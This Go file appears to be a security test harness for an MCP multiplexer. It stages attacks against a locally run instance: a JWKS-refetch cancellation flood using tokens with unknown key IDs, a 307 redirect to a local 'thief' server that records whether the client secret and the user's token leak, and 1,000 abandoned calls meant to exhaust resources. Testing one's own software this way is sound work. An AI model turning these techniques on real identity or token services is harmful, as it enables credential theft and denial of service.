package main

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/go-jose/go-jose/v4/jwt"
)

// Issue 32, attacks 8 and 12: the JWKS refetch an unauthenticated client
// can cancel (logins that work after the issuer rotated its key while the
// attacker hangs up on every refetch), and token exchange (is a 307 from
// the token endpoint followed; goroutines, fds and exchanges in flight
// after 1,000 abandoned calls).

// rotatingIdP is a JWKS endpoint that answers after latency (or when its
// client hangs up), serving the key set of the moment.
type rotatingIdP struct {
	*httptest.Server
	keys    atomic.Pointer[jose.JSONWebKeySet]
	signers sync.Map // kid → *rsa.PrivateKey
	hits    atomic.Int32
}

func newRotatingIdP(latency time.Duration) *rotatingIdP {
	p := &rotatingIdP{}
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.hits.Add(1)
		select {
		case <-time.After(latency):
		case <-r.Context().Done():
			return
		}
		_ = json.NewEncoder(w).Encode(p.keys.Load())
	}))
	return p
}

// rotate publishes a new key kid, the only one.
func (p *rotatingIdP) rotate(kid string) error {
	k, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return err
	}
	p.signers.Store(kid, k)
	p.keys.Store(&jose.JSONWebKeySet{Keys: []jose.JSONWebKey{{Key: &k.PublicKey, KeyID: kid, Algorithm: "RS256", Use: "sig"}}})
	return nil
}

// token signs a valid token with the key signKid, naming headerKid.
func (p *rotatingIdP) token(signKid, headerKid string) (string, error) {
	k, ok := p.signers.Load(signKid)
	if !ok {
		return "", fmt.Errorf("no key %s", signKid)
	}
	sig, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.RS256, Key: k}, (&jose.SignerOptions{}).WithHeader("kid", headerKid))
	if err != nil {
		return "", err
	}
	c := jwt.Claims{Issuer: "https://idp.example", Audience: jwt.Audience{"mcp-mux"}, Subject: "alice", Expiry: jwt.NewNumericDate(time.Now().Add(time.Hour))}
	return jwt.Signed(sig).Claims(c).Serialize()
}

// postAs posts body to /mcp with hdr (name, value pairs) within ctx and
// returns the status and the start of the body.
func (m *mux) postAs(ctx context.Context, body string, hdr ...string) (int, string, error) {
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, m.base+"/mcp", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Add(hdr[i], hdr[i+1])
	}
	resp, err := m.client.Do(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	return resp.StatusCode, string(b), nil
}

// getAs sends a GET /mcp (the stream a client opens) with hdr within ctx.
func (m *mux) getAs(ctx context.Context, hdr ...string) {
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, m.base+"/mcp", nil)
	req.Header.Set("Accept", "text/event-stream")
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Add(hdr[i], hdr[i+1])
	}
	if resp, err := m.client.Do(req); err == nil {
		_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
		resp.Body.Close()
	}
}

const a32Initialize = `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"attack","version":"1"}}}`

// attackJWKSRefetch: one login fetches the key set; 31 s later (past the
// old one-refetch-per-30-s window) the issuer rotates its key while an
// attacker keeps sending tokens with unknown kids and hanging up after
// 50 ms; then 60 real logins with the new key.
func attackJWKSRefetch(bin, dir string) error {
	idp := newRotatingIdP(200 * time.Millisecond)
	defer idp.Close()
	if err := idp.rotate("k1"); err != nil {
		return err
	}
	m, err := startMux(bin, dir, fmt.Sprintf(`{"mcpServers": {}, "inbound": {"auth": {"mode": "jwt", "jwks_url": %q,
		"issuer": "https://idp.example", "audience": "mcp-mux"}}}`, idp.URL))
	if err != nil {
		return err
	}
	defer m.stop()
	tok, err := idp.token("k1", "k1")
	if err != nil {
		return err
	}
	if status, body, err := m.postAs(context.Background(), a32Initialize, "Authorization", "Bearer "+tok); status != http.StatusOK {
		return fmt.Errorf("first login: HTTP %d %s %v", status, short(body), err)
	}
	fmt.Println("a32 attack 8: logged in with k1; waiting 31 s (past the old once-per-30-s refetch window)")
	time.Sleep(31 * time.Second)
	if err := idp.rotate("k2"); err != nil {
		return err
	}
	before := m.stats()
	hits := idp.hits.Load()
	stop := make(chan struct{})
	var attacks atomic.Int32
	var wg sync.WaitGroup
	wg.Go(func() {
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			bad, err := idp.token("k2", fmt.Sprintf("attacker-%d", i)) // any key: only the kid is read first
			if err != nil {
				return
			}
			ctx, hangUp := context.WithTimeout(context.Background(), 50*time.Millisecond)
			m.getAs(ctx, "Authorization", "Bearer "+bad) // no body: the mux sees the hang-up at once
			hangUp()
			attacks.Add(1)
		}
	})
	time.Sleep(300 * time.Millisecond) // the attacker's first hang-ups
	good, err := idp.token("k2", "k2")
	if err != nil {
		return err
	}
	ok, lat := 0, make([]time.Duration, 0, 60)
	for range 60 {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		start := time.Now()
		if status, _, _ := m.postAs(ctx, a32Initialize, "Authorization", "Bearer "+good); status == http.StatusOK {
			ok++
		}
		lat = append(lat, time.Since(start))
		cancel()
		time.Sleep(50 * time.Millisecond)
	}
	close(stop)
	wg.Wait()
	m.client.CloseIdleConnections()
	fmt.Printf("a32 attack 8: logins with the rotated key that worked while an attacker hung up on JWKS refetches: %d of 60 (p50 %s); "+
		"attacker requests %d, JWKS requests meanwhile %d\n", ok, median(lat).Round(time.Millisecond), attacks.Load(), idp.hits.Load()-hits)
	fmt.Printf("a32 attack 8: alive %v; before: %s; after: %s\n", m.alive(), before, m.stats())
	return nil
}

// median is the middle of ds.
func median(ds []time.Duration) time.Duration {
	if len(ds) == 0 {
		return 0
	}
	s := slices.Clone(ds)
	slices.Sort(s)
	return s[len(s)/2]
}

// tokenStore is a token endpoint: it records what it got and either
// answers 307 to redirect, or holds every request until its client hangs
// up, counting those in flight.
type tokenStore struct {
	*httptest.Server
	redirect            string
	hits, inflight, max atomic.Int32
	mu                  sync.Mutex
	forms               []string
}

func newTokenStore(redirect string, hang bool) *tokenStore {
	t := &tokenStore{redirect: redirect}
	t.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.hits.Add(1)
		n := t.inflight.Add(1)
		defer t.inflight.Add(-1)
		for m := t.max.Load(); n > m && !t.max.CompareAndSwap(m, n); m = t.max.Load() {
		}
		_ = r.ParseForm()
		t.mu.Lock()
		t.forms = append(t.forms, r.PostForm.Encode())
		t.mu.Unlock()
		switch {
		case t.redirect != "":
			http.Redirect(w, r, t.redirect, http.StatusTemporaryRedirect)
			return
		case hang:
			<-r.Context().Done()
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"access_token":"a32-stolen-token","token_type":"N_A","expires_in":3600}`)
	}))
	return t
}

// saw reports whether a request it got carried s in its form.
func (t *tokenStore) saw(s string) bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	for _, f := range t.forms {
		if strings.Contains(f, s) {
			return true
		}
	}
	return false
}

// authUpstream is an upstream whose tool "who" answers with the
// Authorization it was sent.
func authUpstream() *httptest.Server {
	var last atomic.Value
	inner := serve(func(_ context.Context, method string, _ json.RawMessage) json.RawMessage {
		switch method {
		case "tools/list":
			return json.RawMessage(`{"tools":[{"name":"who","inputSchema":{"type":"object"}}]}`)
		case "tools/call":
			b, _ := json.Marshal(fmt.Sprint(last.Load()))
			return json.RawMessage(`{"content":[{"type":"text","text":` + string(b) + `}]}`)
		}
		return json.RawMessage(`{}`)
	})
	inner.Close() // only its handler is used
	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		last.Store(r.Header.Get("Authorization"))
		inner.Config.Handler.ServeHTTP(w, r)
	}))
}

// a32Call is a 2026-07-28 tools/call of name.
func a32Call(name string) string {
	return `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"` + name + `","arguments":{},"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28",` +
		`"io.modelcontextprotocol/clientInfo":{"name":"attack","version":"1"},"io.modelcontextprotocol/clientCapabilities":{}}}}`
}

// modernCall posts a32Call(name) as user with the subject token subject.
func (m *mux) modernCall(ctx context.Context, name, user, subject string) (int, string, error) {
	return m.postAs(ctx, a32Call(name), "Mcp-Protocol-Version", "2026-07-28", "Mcp-Method", "tools/call", "Mcp-Name", name,
		"X-User", user, "X-User-Token", "Bearer "+subject)
}

// attackExchange: a token endpoint that answers 307 to a server of the
// attacker's (does the mux re-post the client secret and the caller's
// token there, and send its token upstream?); then 1,000 calls, each with
// its own user and subject token, abandoned after 2 s while the token
// endpoint hangs (no limits rule).
func attackExchange(bin, dir string) error {
	thief := newTokenStore("", false)
	defer thief.Close()
	redirecting := newTokenStore(thief.URL+"/token", false)
	defer redirecting.Close()
	hanging := newTokenStore("", true)
	defer hanging.Close()
	up := authUpstream()
	defer up.Close()
	xchg := func(url string) string {
		return fmt.Sprintf(`{"token_url": %q, "client_id": "mux", "client_secret": "a32-client-secret", "auth_style": "post",
			"subject_header": "X-User-Token", "audience": "https://api.example"}`, url+"/token")
	}
	m, err := startMux(bin, dir, fmt.Sprintf(`{"mcpServers": {
		"r": {"type": "http", "url": %q, "token_exchange": %s},
		"h": {"type": "http", "url": %q, "token_exchange": %s}},
		"inbound": {"auth": {"mode": "trusted_header"}, "user_header": "X-User"}}`, up.URL+"/mcp", xchg(redirecting.URL), up.URL+"/mcp", xchg(hanging.URL)))
	if err != nil {
		return err
	}
	defer m.stop()
	status, body, err := m.modernCall(context.Background(), "r_who", "alice", "a32-alice-subject")
	if err != nil {
		return err
	}
	fmt.Printf("a32 attack 12: token endpoint answers 307: redirect followed %v (target got %d requests; client_secret %v, caller's token %v); "+
		"upstream got the target's token %v; the call: HTTP %d %s\n", thief.hits.Load() > 0, thief.hits.Load(), thief.saw("a32-client-secret"),
		thief.saw("a32-alice-subject"), strings.Contains(body, "a32-stolen-token"), status, short(oneLine(body)))

	before := m.stats()
	var wg sync.WaitGroup
	for i := range 1000 {
		wg.Go(func() {
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
			defer cancel()
			_, _, _ = m.modernCall(ctx, "h_who", fmt.Sprintf("user-%d", i), fmt.Sprintf("a32-subject-%d", i))
		})
	}
	wg.Wait()
	m.client.CloseIdleConnections() // what stays open is the mux's
	during := m.stats()
	left := hanging.inflight.Load()
	time.Sleep(2 * time.Second)
	later := hanging.inflight.Load()
	after2 := m.stats()
	time.Sleep(8 * time.Second)
	fmt.Printf("a32 attack 12: 1,000 calls abandoned after 2 s against a hanging token endpoint: most exchanges in flight %d, "+
		"still in flight when the last caller left %d, 2 s later %d, 10 s later %d; token requests %d\n", hanging.max.Load(), left, later, hanging.inflight.Load(), hanging.hits.Load())
	fmt.Printf("a32 attack 12: alive %v; before: %s; when the callers left: %s; 2 s later: %s; 10 s later: %s\n", m.alive(), before, during, after2, m.stats())
	if !m.alive() {
		return errors.New("the mux died")
	}
	return nil
}
